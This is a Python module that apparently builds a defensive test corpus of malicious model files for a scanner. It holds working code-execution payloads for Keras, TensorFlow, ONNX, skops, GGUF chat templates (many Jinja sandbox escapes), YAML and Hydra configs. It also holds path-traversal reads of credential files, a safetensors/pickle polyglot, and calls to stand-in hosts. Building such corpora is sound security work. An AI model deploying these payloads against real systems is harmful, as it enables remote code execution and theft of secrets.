"""Malicious files of other formats: classes 32 to 39."""

import base64
import json
import marshal
import struct

from .archives import zip_of
from .asm import call, red, stream, whole
from .containers import evil_pickle, evil_state, npy
from .torch_layouts import torch_zip
from .wire import (
    attr_string,
    attr_tensor,
    field,
    graph,
    hdf5,
    keras_archive,
    llama_gguf,
    node,
    safetensors,
    saved_model,
    saved_model_folder,
)

INPUT = {
    "module": "keras.layers",
    "class_name": "InputLayer",
    "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
    "registered_name": None,
}
DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"name": "dense", "units": 2, "activation": "relu"},
    "registered_name": None,
}
SOURCES = [
    ("os-system", "lambda x: __import__('os').system('true') or x"),
    ("subprocess", "lambda x: __import__('subprocess').run(['true']) and x"),
    ("eval", "lambda x: eval(\"__import__('os').getpid()\") and x"),
    ("exec-base64", "lambda x: exec(__import__('base64').b64decode('cGFzcw==')) or x"),
    ("urlopen", "lambda x: __import__('urllib.request').request.urlopen('http://files.example.invalid/x').read() and x"),
    ("socket", "lambda x: __import__('socket').create_connection(('192.0.2.1', 4444)) and x"),
    ("open-write", "lambda x: open('/tmp/weir-eval-k', 'w').write('x') and x"),
    ("ctypes", "lambda x: __import__('ctypes').CDLL('/tmp/weir-eval.so') and x"),
    ("builtins-getattr", "lambda x: getattr(__import__('o' + 's'), 'sys' + 'tem')('true') or x"),
    ("globals", "lambda x: globals()['__builtins__']['eval']('1') and x"),
    ("nested-lambda", "lambda x: (lambda c: __import__('os').popen(c).read())('id') and x"),
]


def code_text(source):
    """The marshalled code object of a lambda, in base64, as Keras keeps it."""
    return base64.encodebytes(marshal.dumps(compile(source, "model.py", "eval").co_consts[0])).decode()


def lambda_v2(source):
    return {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {"class_name": "__tuple__", "items": [code_text(source), None, None]},
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "arguments": {},
        },
    }


def lambda_v3(source):
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {"code": code_text(source), "defaults": None, "closure": None}},
            "arguments": {},
        },
    }


def sequential(*layers, module=True):
    made = {"class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)}}
    return {"module": "keras", "registered_name": None, **made} if module else made


class _Cases:
    def __init__(self, corpus, technique, note):
        self.corpus, self.technique, self.note, self.count = corpus, technique, note, 0

    def add(self, name, content, note=None):
        self.corpus.malicious(self.technique, f"{self.count:02d}-{name}", content, "format", note or self.note)
        self.count += 1


def add(corpus):
    keras_lambda(corpus)
    keras_names(corpus)
    tensorflow(corpus)
    onnx_models(corpus)
    templates(corpus)
    skops(corpus)
    tensors_in_disguise(corpus)
    yaml_files(corpus)


def keras_lambda(corpus):
    """Class 32."""
    h5 = _Cases(corpus, "32-keras-lambda-h5", "a Lambda layer's marshalled code in model_config")
    base = {"keras_version": "2.11.0", "backend": "tensorflow"}
    for index, (name, source) in enumerate(SOURCES):
        config = json.dumps(sequential(lambda_v2(source), module=False))
        h5.add(f"{name}/model.h5", hdf5({**base, "model_config": config}, fixed=index % 2 == 0))
    inner = sequential(sequential(lambda_v2(SOURCES[0][1]), module=False), module=False)
    h5.add("nested-sequential/model.hdf5", hdf5({**base, "model_config": json.dumps(inner)}))
    timed = {"class_name": "TimeDistributed", "config": {"name": "td", "layer": lambda_v2(SOURCES[1][1])}}
    h5.add(
        "time-distributed/model.h5",
        hdf5(
            {
                **base,
                "model_config": json.dumps(
                    {"class_name": "Functional", "config": {"name": "m", "layers": [timed], "input_layers": [], "output_layers": []}}
                ),
            }
        ),
    )
    old = lambda_v2(SOURCES[2][1])
    old["config"]["function"] = [code_text(SOURCES[2][1]), None, None]
    h5.add("list-form/weights.h5", hdf5({**base, "model_config": json.dumps(sequential(old, module=False))}, fixed=True))
    h5.add(
        "training-config/model.h5",
        hdf5(
            {
                **base,
                "model_config": json.dumps(sequential(DENSE, module=False)),
                "training_config": json.dumps(
                    {"loss": {"class_name": "__lambda__", "config": {"code": code_text(SOURCES[0][1]), "defaults": None, "closure": None}}}
                ),
            }
        ),
        note="Keras 3 also deserializes the training configuration",
    )
    h5.add("v3-in-h5/model.h5", hdf5({"keras_version": "3.3.0", "model_config": json.dumps(sequential(lambda_v3(SOURCES[0][1])))}))
    h5.add("no-extension/model", hdf5({**base, "model_config": json.dumps(sequential(lambda_v2(SOURCES[5][1]), module=False))}))
    v3 = _Cases(corpus, "32-keras-lambda-archive", "a Lambda layer's code in config.json of a .keras archive")
    for name, source in SOURCES:
        v3.add(f"{name}/model.keras", keras_archive(sequential(INPUT, lambda_v3(source), DENSE)))
    functional = {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "f",
            "layers": [INPUT, {**lambda_v3(SOURCES[1][1]), "name": "l", "inbound_nodes": []}],
            "input_layers": [],
            "output_layers": [],
        },
    }
    v3.add("functional/model.keras", keras_archive(functional))
    v3.add(
        "bidirectional/model.keras",
        keras_archive(sequential({"module": "keras.layers", "class_name": "Bidirectional", "config": {"layer": lambda_v3(SOURCES[0][1])}})),
    )
    v3.add(
        "activation/model.keras",
        keras_archive(sequential({**DENSE, "config": {**DENSE["config"], "activation": lambda_v3(SOURCES[0][1])["config"]["function"]}})),
    )
    v3.add(
        "compile-config/model.keras",
        keras_archive({**sequential(DENSE), "compile_config": {"loss": lambda_v3(SOURCES[3][1])["config"]["function"]}}),
    )
    v3.add("upper-name/MODEL.KERAS", keras_archive(sequential(lambda_v3(SOURCES[2][1]))))
    v3.add(
        "unpacked/model",
        {
            "config.json": json.dumps(sequential(lambda_v3(SOURCES[0][1]))),
            "metadata.json": '{"keras_version": "3.3.0"}',
            "model.weights.h5": hdf5({}),
        },
        note="an unpacked archive, as hubs keep it",
    )
    saved = _Cases(corpus, "32-keras-lambda-saved-model", "a Lambda layer's code in keras_metadata.pb")
    for name, source in SOURCES[:4]:
        metadata = json.dumps({"name": "lambda", "class_name": "Lambda", "config": lambda_v2(source)["config"], "shared_object_id": 1})
        root = json.dumps({"name": "sequential", "class_name": "Sequential", "config": {"layers": [lambda_v2(source)]}})
        proto = b"".join(
            field(1, field(2, number) + field(3, path) + field(4, kind) + field(5, text))
            for number, path, kind, text in ((0, "root", "_tf_keras_sequential", root), (1, "root.layer-0", "_tf_keras_layer", metadata))
        )
        saved.add(f"{name}/saved_model", saved_model_folder(graph([node("x", "Placeholder")]), **{"keras_metadata.pb": proto}))


def keras_names(corpus):
    """Class 33."""
    cases = _Cases(
        corpus, "33-keras-any-function", "the configuration names any function of any module (CVE-2025-1550 and what came after)"
    )

    def caller(module, function, *arguments):
        layer = {
            "module": "keras.layers",
            "class_name": "Lambda",
            "registered_name": None,
            "name": "l",
            "config": {
                "name": "l",
                "function": {"module": module, "class_name": "function", "config": function, "registered_name": function},
                "arguments": {},
            },
            "inbound_nodes": [{"args": list(arguments), "kwargs": {}}],
        }
        return {
            "module": "keras.src.models.functional",
            "class_name": "Functional",
            "config": {"name": "f", "layers": [INPUT, layer], "input_layers": [["input", 0, 0]], "output_layers": [["l", 0, 0]]},
        }

    for module, function, argument in (
        ("os", "system", "true"),
        ("subprocess", "Popen", ["true"]),
        ("builtins", "exec", "import os"),
        ("builtins", "eval", "1"),
        ("subprocess", "getoutput", "id"),
        ("shutil", "rmtree", "/tmp/weir-eval-d"),
        ("keras.utils", "get_file", "http://files.example.invalid/a.tar.gz"),
        ("keras.src.utils.file_utils", "extract_archive", "/tmp/weir-eval.tar"),
        ("pickle", "loads", "x"),
        ("importlib", "import_module", "weir_eval_absent"),
        ("urllib.request", "urlretrieve", "http://files.example.invalid/a"),
        ("keras.src.saving.saving_lib", "load_model", "http://files.example.invalid/m.keras"),
        ("keras.config", "enable_unsafe_deserialization", None),
    ):
        cases.add(f"{module.replace('.', '-')}-{function}/model.keras", keras_archive(caller(module, function, argument)))
    cases.add(
        "class-of-any-module/model.keras",
        keras_archive({"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}, "registered_name": "Popen"}),
    )
    cases.add(
        "loss-function/model.keras",
        keras_archive(
            {
                **sequential(DENSE),
                "compile_config": {
                    "optimizer": "adam",
                    "loss": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
                },
            }
        ),
    )
    cases.add("h5-function/model.h5", hdf5({"keras_version": "3.3.0", "model_config": json.dumps(caller("os", "system", "true"))}))
    bad = base64.b64encode(evil_pickle(0)).decode()
    layers = _Cases(corpus, "33-keras-layers-that-load", "layers that unpickle, read files or fetch")
    layers.add(
        "torch-wrapper/model.keras",
        keras_archive(
            sequential(
                {
                    "module": "keras.layers",
                    "class_name": "TorchModuleWrapper",
                    "config": {"name": "t", "module": {"class_name": "__bytes__", "config": {"value": bad}}},
                    "registered_name": None,
                }
            )
        ),
    )
    state, storages = evil_state()
    layers.add(
        "torch-wrapper-zip/model.keras",
        keras_archive(
            sequential(
                {
                    "module": "keras.layers",
                    "class_name": "TorchModuleWrapper",
                    "config": {"name": "t", "module": base64.b64encode(torch_zip(state, storages)).decode()},
                    "registered_name": None,
                }
            )
        ),
    )
    for kind, vocabulary in (
        ("StringLookup", "/etc/passwd"),
        ("IntegerLookup", "/root/.ssh/id_rsa"),
        ("TextVectorization", "http://192.0.2.1/latest/meta-data"),
        ("StringLookup", "../../../../etc/shadow"),
        ("StringLookup", "gs://example-invalid/v.txt"),
    ):
        layers.add(
            f"{kind.lower()}-path-{len(vocabulary)}/model.keras",
            keras_archive(
                sequential(
                    {
                        "module": "keras.layers",
                        "class_name": kind,
                        "config": {"name": "v", "vocabulary": vocabulary},
                        "registered_name": None,
                    }
                )
            ),
            note="CVE-2025-12058: a vocabulary that is a path or a URL is read at load",
        )
    layers.add(
        "tfsm/model.keras",
        keras_archive(
            sequential(
                {
                    "module": "keras.layers",
                    "class_name": "TFSMLayer",
                    "config": {"name": "s", "filepath": "/tmp/weir-eval-saved", "call_endpoint": "serve"},
                    "registered_name": None,
                }
            )
        ),
    )
    layers.add(
        "hub-layer/model.h5",
        hdf5(
            {
                "keras_version": "2.11.0",
                "model_config": json.dumps(
                    sequential({"class_name": "KerasLayer", "config": {"handle": "http://files.example.invalid/evil.tar.gz"}}, module=False)
                ),
            }
        ),
    )
    layers.add(
        "jax-layer/model.keras",
        keras_archive(sequential({"module": "os", "class_name": "system", "config": {"command": "true"}, "registered_name": "os>system"})),
    )


def tensorflow(corpus):
    """Class 34."""
    cases = _Cases(corpus, "34-tensorflow-operators", "operators that read or write files or call Python")
    path = node("path", "Const", attributes={"value": attr_tensor("/etc/passwd")})
    target = node("target", "Const", attributes={"value": attr_tensor("/tmp/weir-eval-tf")})
    rows = [
        ("read", [path, node("r", "ReadFile", ["path"])]),
        ("write", [path, target, node("w", "WriteFile", ["target", "path"])]),
        ("matching", [path, node("m", "MatchingFiles", ["path"])]),
        ("py-func", [node("p", "PyFunc", ["path"], {"token": attr_string("pyfunc_0")})]),
        ("py-func-stateless", [node("p", "PyFuncStateless", [], {"token": attr_string("pyfunc_1")})]),
        ("eager-py-func", [node("p", "EagerPyFunc", [], {"token": attr_string("pyfunc_2")})]),
        ("print-to-file", [path, node("p", "PrintV2", ["path"], {"output_stream": attr_string("file:///root/.bashrc")})]),
    ]
    for name, nodes in rows:
        cases.add(f"{name}/saved_model", saved_model_folder(graph([node("x", "Placeholder"), *nodes])))
    cases.add("frozen-read/frozen_graph.pb", graph([path, node("r", "ReadFile", ["path"])]))
    cases.add("single-file/saved_model.pb", saved_model(graph([path, target, node("w", "WriteFile", ["target", "path"])])))
    hidden = _Cases(corpus, "34-tensorflow-hidden-operators", "the operator lies in a function, or in a graph kept as a constant")
    hidden.add(
        "function/saved_model",
        saved_model_folder(graph([node("call", "StatefulPartitionedCall")], [("__inference_f", [path, node("r", "ReadFile", ["path"])])])),
    )
    hidden.add(
        "second-function/saved_model",
        saved_model_folder(
            graph(
                [node("call", "PartitionedCall")],
                [("a", [node("i", "Identity")]), ("b", [target, node("w", "WriteFile", ["target", "target"])])],
            )
        ),
    )
    inner = graph([path, node("r", "ReadFile", ["path"])])
    hidden.add(
        "dataset-from-graph/saved_model",
        saved_model_folder(graph([node("g", "Const", attributes={"value": attr_tensor(inner)}), node("d", "DatasetFromGraph", ["g"])])),
    )
    hidden.add(
        "graph-in-function/saved_model",
        saved_model_folder(
            graph(
                [node("c", "PartitionedCall")],
                [
                    (
                        "f",
                        [
                            node(
                                "g",
                                "Const",
                                attributes={"value": attr_tensor(graph([target, node("w", "WriteFile", ["target", "target"])]))},
                            ),
                            node("d", "DatasetFromGraph", ["g"]),
                        ],
                    )
                ],
            )
        ),
    )
    hidden.add(
        "while-body/saved_model",
        saved_model_folder(
            graph([node("w", "StatelessWhile")], [("cond", [node("i", "Identity")]), ("body", [path, node("r", "ReadFile", ["path"])])])
        ),
    )
    hidden.add(
        "two-meta-graphs/saved_model",
        {
            "saved_model.pb": saved_model(graph([node("x", "Placeholder")]))
            + field(2, field(1, field(4, "train")) + field(2, graph([path, node("r", "ReadFile", ["path"])]))),
            "variables/variables.index": b"",
        },
    )


def onnx_models(corpus):
    """Class 35."""
    from onnx import TensorProto, helper

    cases = _Cases(corpus, "35-onnx-external-data", "external data outside the model's folder is read at load")

    def external(location, name="w", shape=(4,)):
        tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=list(shape), data_location=TensorProto.EXTERNAL)
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        return tensor

    def model(initializers=(), nodes=None, sparse=(), functions=(), imports=()):
        x, y = (helper.make_tensor_value_info(name, TensorProto.FLOAT, [4]) for name in "xy")
        made = helper.make_graph(
            nodes or [helper.make_node("Add", ["x", "w"], ["y"])], "g", [x], [y], list(initializers), sparse_initializer=list(sparse)
        )
        return helper.make_model(
            made, opset_imports=[helper.make_opsetid("", 17), *imports], functions=list(functions), ir_version=9
        ).SerializeToString()

    for name, location in (
        ("parents", "../../../../etc/passwd"),
        ("absolute", "/etc/passwd"),
        ("inside-then-out", "weights/../../secret.bin"),
        ("dot-slash", "./.././../etc/hosts"),
        ("backslash", "..\\..\\secret.bin"),
        ("drive", "C:\\Windows\\win.ini"),
        ("proc", "/proc/self/environ"),
        ("double-slash", "..//..//etc/passwd"),
        ("home", "../../.ssh/id_rsa"),
        ("url", "file:///etc/passwd"),
    ):
        cases.add(f"{name}/model.onnx", model([external(location)]))
    sparse = helper.make_sparse_tensor(
        external("../../../etc/passwd", "w"), helper.make_tensor("i", TensorProto.INT64, [4], [0, 1, 2, 3]), [8]
    )
    cases.add("sparse/model.onnx", model(sparse=[sparse]))
    constant = helper.make_node("Constant", [], ["w"], value=external("../../../etc/passwd", "c"))
    cases.add("constant-node/model.onnx", model(nodes=[constant, helper.make_node("Add", ["x", "w"], ["y"])]))
    subgraph = helper.make_graph(
        [helper.make_node("Constant", [], ["o"], value=external("/etc/shadow", "d"))],
        "s",
        [],
        [helper.make_tensor_value_info("o", TensorProto.FLOAT, [4])],
    )
    branch = helper.make_node("If", ["c"], ["y"], then_branch=subgraph, else_branch=subgraph)
    cases.add("subgraph/model.onnx", model([helper.make_tensor("c", TensorProto.BOOL, [], [True])], nodes=[branch]))
    function = helper.make_function(
        "local",
        "F",
        ["a"],
        ["b"],
        [helper.make_node("Constant", [], ["k"], value=external("../../x", "e")), helper.make_node("Add", ["a", "k"], ["b"])],
        [helper.make_opsetid("", 17)],
    )
    cases.add(
        "function/model.onnx",
        model(nodes=[helper.make_node("F", ["x"], ["y"], domain="local")], functions=[function], imports=[helper.make_opsetid("local", 1)]),
    )
    operators = _Cases(corpus, "35-onnx-python-operators", "operators that call Python functions")
    operators.add(
        "python-op/model.onnx",
        model(
            nodes=[helper.make_node("PythonOp", ["x"], ["y"], domain="com.microsoft", func_name="os.system", inplace=0)],
            imports=[helper.make_opsetid("com.microsoft", 1)],
        ),
    )
    operators.add(
        "py-op/model.onnx",
        model(
            nodes=[helper.make_node("PyOp", ["x"], ["y"], domain="pyopmulti_1", module="os", class_name="system", compute="system")],
            imports=[helper.make_opsetid("pyopmulti_1", 1)],
        ),
    )
    operators.add(
        "py-custom-op/model.onnx",
        model(
            nodes=[helper.make_node("PyCustomOpDef_eval", ["x"], ["y"], domain="ai.onnx.contrib")],
            imports=[helper.make_opsetid("ai.onnx.contrib", 1)],
        ),
    )


CHATML = "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
INJECTIONS = [
    ("cycler", "{{ cycler.__init__.__globals__.os.popen('true').read() }}"),
    ("joiner", "{{ joiner.__init__.__globals__['os'].system('true') }}"),
    ("namespace", "{{ namespace.__init__.__globals__.os.popen('id').read() }}"),
    ("lipsum", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
    (
        "subclasses",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen('true').read() }}{% endif %}{% endfor %}",
    ),
    ("mro", "{{ ''.__class__.__mro__[1].__subclasses__()[138].__init__.__globals__['popen']('true').read() }}"),
    ("attr-filter", "{{ (cycler|attr('__init__')|attr('__globals__')).os.popen('true').read() }}"),
    ("attr-hex", "{{ (cycler|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen('true').read() }}"),
    ("concatenated", "{% set u = '_' * 2 %}{{ (joiner|attr(u ~ 'init' ~ u)|attr(u ~ 'globals' ~ u))['os'].system('true') }}"),
    ("subscript", "{{ cycler['__init__']['__globals__']['os'].popen('true').read() }}"),
    ("format", "{{ (cycler|attr('%sinit%s'|format('__', '__'))|attr('%sglobals%s'|format('__', '__'))).os.system('true') }}"),
    ("join", "{{ (cycler|attr(['__', 'init', '__']|join)|attr(['__', 'globals', '__']|join)).os.system('true') }}"),
    ("self", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('true').read() }}"),
    ("raise-exception-globals", "{{ raise_exception.__globals__['__builtins__']['eval'](\"__import__('os').system('true')\") }}"),
    ("strftime-globals", "{{ strftime_now.__globals__['__builtins__']['__import__']('os').system('true') }}"),
    ("dict-base", "{{ dict.__base__.__subclasses__()[138].__init__.__globals__['system']('true') }}"),
    ("macro", "{% macro m() %}{% endmacro %}{{ m.__init__.__globals__['sys'].modules['os'].system('true') }}"),
    ("loop-variable", "{% for m in messages %}{{ loop.__init__.__globals__['sys'].modules['os'].popen('id').read() }}{% endfor %}"),
    ("map-attribute", "{{ ([cycler]|map(attribute='__init__')|first).__globals__.os.popen('true').read() }}"),
    ("undefined", "{{ anything.__init__.__globals__['sys'].modules['os'].system('true') }}"),
    ("reversed-name", "{{ (cycler|attr('__tini__'|reverse)|attr('__slabolg__'|reverse)).os.system('true') }}"),
    ("in-set", "{% set c = cycler.__init__ %}{% set gl = c.__globals__ %}{{ gl.os.popen('true').read() }}"),
    ("range-class", "{{ range.__class__.__base__.__subclasses__()[138].__init__.__globals__['system']('true') }}"),
]


def templates(corpus):
    """Class 36."""
    model_files = _Cases(
        corpus, "36-template-gguf", "a chat template that reaches Python through a renderer without a sandbox (CVE-2024-34359)"
    )
    configs = _Cases(corpus, "36-template-tokenizer-config", "the same in tokenizer files")
    for index, (name, text) in enumerate(INJECTIONS):
        template = (CHATML + text, text + CHATML, text)[index % 3]
        if index % 2 == 0:
            model_files.add(f"{name}/model.gguf", llama_gguf(template))
        else:
            configs.add(
                f"{name}/tokenizer_config.json",
                json.dumps({"bos_token": "<s>", "chat_template": template, "tokenizer_class": "LlamaTokenizer"}),
            )
    model_files.add("tool-template/model.gguf", llama_gguf(CHATML, **{"tokenizer.chat_template.tool_use": INJECTIONS[0][1]}))
    model_files.add("far-down/model.gguf", llama_gguf(CHATML * 40 + INJECTIONS[4][1] + CHATML * 10))
    model_files.add("no-extension/blob", llama_gguf(INJECTIONS[2][1]))
    model_files.add(
        "system-prompt-only/ggml-model.bin",
        llama_gguf("{% if messages[0]['role'] == 'system' %}" + INJECTIONS[3][1] + "{% endif %}" + CHATML),
    )
    configs.add(
        "named-list/tokenizer_config.json",
        json.dumps({"chat_template": [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": INJECTIONS[4][1]}]}),
    )
    configs.add(
        "jinja-file/model",
        {"chat_template.jinja": CHATML + INJECTIONS[1][1], "config.json": '{"model_type": "llama"}', "tokenizer_config.json": "{}"},
    )
    configs.add(
        "chat-template-json/model",
        {"chat_template.json": json.dumps({"chat_template": INJECTIONS[5][1]}), "config.json": '{"model_type": "llava"}'},
    )
    configs.add(
        "additional/model", {"additional_chat_templates/rag.jinja": INJECTIONS[12][1], "chat_template.jinja": CHATML, "config.json": "{}"}
    )
    configs.add("processor/processor_config.json", json.dumps({"processor_class": "X", "chat_template": INJECTIONS[6][1]}))


def skops(corpus):
    """Class 37."""
    cases = _Cases(corpus, "37-skops", "the schema names modules and functions to use")

    def archive(root, **members):
        return zip_of({"schema.json": json.dumps({**root, "protocol": 2, "_skops_version": "0.10"}), **members})

    cases.add(
        "function-node/model.skops",
        archive(
            {
                "__class__": "system",
                "__module__": "os",
                "__loader__": "FunctionNode",
                "content": {"module_path": "os", "function": "system"},
                "__id__": 1,
            }
        ),
    )
    cases.add(
        "operator-method-caller/model.skops",
        archive(
            {
                "__class__": "call",
                "__module__": "operator",
                "__loader__": "OperatorFuncNode",
                "__id__": 1,
                "attrs": {
                    "__class__": "tuple",
                    "__module__": "builtins",
                    "__loader__": "TupleNode",
                    "content": [{"__class__": "system", "__module__": "os", "__loader__": "TypeNode", "__id__": 3}],
                    "__id__": 2,
                },
            }
        ),
        note="CVE-2025-54412",
    )
    cases.add(
        "method-node/model.skops",
        archive(
            {
                "__class__": "os",
                "__module__": "builtins",
                "__loader__": "MethodNode",
                "content": {
                    "func": "system",
                    "obj": {"__class__": "os", "__module__": "os", "__loader__": "ObjectNode", "__id__": 2, "content": None},
                },
                "__id__": 1,
            }
        ),
        note="CVE-2025-54413",
    )
    cases.add(
        "partial-node/model.skops",
        archive(
            {
                "__class__": "partial",
                "__module__": "functools",
                "__loader__": "PartialNode",
                "__id__": 1,
                "content": {
                    "func": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "TypeNode", "__id__": 2},
                    "args": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [], "__id__": 3},
                },
            }
        ),
    )
    cases.add(
        "object-reduce/model.skops",
        archive(
            {
                "__class__": "Popen",
                "__module__": "subprocess",
                "__loader__": "ReduceNode",
                "__id__": 1,
                "content": {"attrs": {}, "args": ["true"]},
                "constructor": "subprocess.Popen",
            }
        ),
    )
    cases.add(
        "type-node/model.skops",
        archive(
            {
                "__class__": "FunctionTransformer",
                "__module__": "sklearn.preprocessing._function_transformer",
                "__loader__": "ObjectNode",
                "__id__": 1,
                "content": {
                    "__class__": "dict",
                    "__module__": "builtins",
                    "__loader__": "DictNode",
                    "key_types": None,
                    "content": {"func": {"__class__": "eval", "__module__": "builtins", "__loader__": "FunctionNode", "__id__": 4}},
                    "__id__": 2,
                },
            }
        ),
    )
    cases.add(
        "object-array/model.skops",
        archive(
            {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "1.npy", "__id__": 1},
            **{"1.npy": npy(evil_pickle(1, "bin3"))},
        ),
    )
    cases.add(
        "pickle-member/model.skops",
        archive(
            {"__class__": "Tree", "__module__": "sklearn.tree._tree", "__loader__": "TreeNode", "__id__": 1},
            **{"payload.pkl": evil_pickle(0, "framed4")},
        ),
    )
    cases.add("joblib-named-skops/model.skops", evil_pickle(2, "framed4"), note="CVE-2025-54886: the card reader falls back to joblib")


def tensors_in_disguise(corpus):
    """Class 38: safetensors cannot run code, so what is dangerous here is what only looks like it, or what names it."""
    cases = _Cases(corpus, "38-safetensors-disguise", "a file named or shaped like safetensors that a pickle loader runs")
    for index, style in enumerate(("bin2", "framed4", "text0", "bin5")):
        cases.add(
            f"pickle-{style}/model.safetensors",
            evil_pickle(index, style) if style != "text0" else stream("text0", call("text0", "os.system", "true")),
        )
    state, storages = evil_state()
    cases.add("torch-zip/model.safetensors", torch_zip(state, storages))
    for name, payload in (("system", red("os.system", "true")), ("eval", red("builtins.eval", "__import__('os').system('true')"))):
        cases.add(
            f"polyglot-{name}/model.safetensors",
            polyglot(whole(payload)),
            note="valid safetensors whose first bytes are also a pickle; torch.load and pickle.load run it",
        )
    cases.add(
        "index-leads-out/model",
        {
            "model.safetensors.index.json": json.dumps({"metadata": {}, "weight_map": {"w": "../../../tmp/weir-eval/pytorch_model.bin"}}),
            "config.json": "{}",
        },
        note="the shard index leads out of the folder, to a pickle",
    )
    cases.add(
        "next-to-pickle/model",
        {
            "model.safetensors": safetensors({"w": ("F32", (2,), bytes(8))}),
            "pytorch_model.bin": torch_zip(state, storages),
            "config.json": "{}",
        },
        note="loaders without safetensors support take the .bin",
    )


def polyglot(payload):
    """Valid safetensors that is a pickle too.

    The low byte of the header's length is BINSTRING and the next four its length, which ends inside a JSON string of the header.
    From there SHORT_BINSTRINGs of printable length lead over the rest of the header to the tensor's bytes, where the payload is.
    """
    skipped = 40
    size = 0x54 + 256 * skipped
    start = b'{"__metadata__":{"note":"'
    head = start + b" " * (skipped - 3 - len(start))
    tail = b'"},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(payload), len(payload))
    last = b"U~" + b"z" * (126 - len(tail)) + tail
    distance = size - len(head) - len(last)
    count = -(-distance // 128)
    sizes = [distance // count + (index < distance % count) for index in range(count)]
    hops = b"".join(b"U" + bytes([length - 2]) + b"x" * (length - 2) for length in sizes)
    if b"\\" in hops or b'"' in hops or len(head + hops + last) != size:
        raise ValueError("the hops do not fit")
    return struct.pack("<Q", size) + head + hops + last + payload


def yaml_files(corpus):
    """Class 39."""
    cases = _Cases(corpus, "39-yaml-python-tags", "tags that make an unsafe YAML loader call Python")
    rows = [
        ("apply-system", "model: !!python/object/apply:os.system ['true']\n"),
        ("apply-block", "hook:\n  !!python/object/apply:subprocess.check_output\n  - [echo, weir-eval]\n"),
        ("new-popen", "x: !!python/object/new:subprocess.Popen [['true']]\n"),
        (
            "new-with-state",
            "!!python/object/new:type\nargs: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\nlistitems: \"__import__('os').system('true')\"\n",
        ),
        ("apply-eval-and-name", "fn: !!python/object/apply:builtins.eval ['1+1']\nname: !!python/name:os.system\n"),
        ("module", "m: !!python/module:antigravity\n"),
        ("tag-uri", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n"),
        ("tag-directive", "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.popen ['id']\n"),
        ("second-document", "a: 1\n---\nb: !!python/object/apply:builtins.exec ['import os']\n"),
        ("in-flow", "{a: [1, !!python/object/apply:os.getcwd [], !!python/object/apply:os.system ['true']]}\n"),
        ("after-anchor", "base: &b {lr: 0.1}\nrun: {<<: *b, cb: !!python/object/apply:eval [\"__import__('os').system('true')\"]}\n"),
    ]
    for index, (name, text) in enumerate(rows):
        cases.add(f"{name}/{('config.yaml', 'hparams.yml', 'params.yaml')[index % 3]}", text)
    cases.add("percent-encoded/config.yaml", "a: !!python/object/apply:os%2Esystem ['true']\n")
    hydra = _Cases(corpus, "39-hydra-target", "_target_ or class_path names a function that is no part of a model")
    rows = [
        ("system", "_target_: os.system\ncommand: 'true'\n"),
        ("exec", "model:\n  _target_: builtins.exec\n  _args_: ['import os']\n"),
        ("popen", "callbacks:\n  - _target_: subprocess.Popen\n    args: [sh, -c, 'true']\n"),
        ("eval-nested", "trainer:\n  logger:\n    _target_: builtins.eval\n    _args_: [\"__import__('os').system('true')\"]\n"),
        ("partial", "opt:\n  _target_: functools.partial\n  _args_: [{_target_: hydra.utils.get_method, path: os.system}, 'true']\n"),
        ("pickle", "data:\n  _target_: pickle.load\n  file: {_target_: builtins.open, file: /tmp/weir-eval, mode: rb}\n"),
        (
            "urlretrieve",
            "w:\n  _target_: urllib.request.urlretrieve\n  url: http://files.example.invalid/a\n  filename: /tmp/weir-eval-a\n",
        ),
        ("import", "w:\n  _target_: importlib.import_module\n  name: weir_eval_absent\n"),
        ("shutil", "clean:\n  _target_: shutil.rmtree\n  path: /tmp/weir-eval-d\n"),
        ("class-path", "model:\n  class_path: subprocess.Popen\n  init_args:\n    args: ['true']\n"),
    ]
    for index, (name, text) in enumerate(rows):
        content = {"config.yaml": text, "model.ckpt": torch_zip(stream("bin2", {"epoch": 1}), {})} if index % 3 == 2 else text
        hydra.add(f"{name}/{'run' if isinstance(content, dict) else 'config.yaml'}", content)
    hydra.add("json/config.json", json.dumps({"model": {"_target_": "os.system", "command": "true"}}))
    hydra.add("model-index/metadata.yaml", "name: x\nloader:\n  _target_: runpy.run_path\n  path_name: /tmp/weir-eval.py\n")
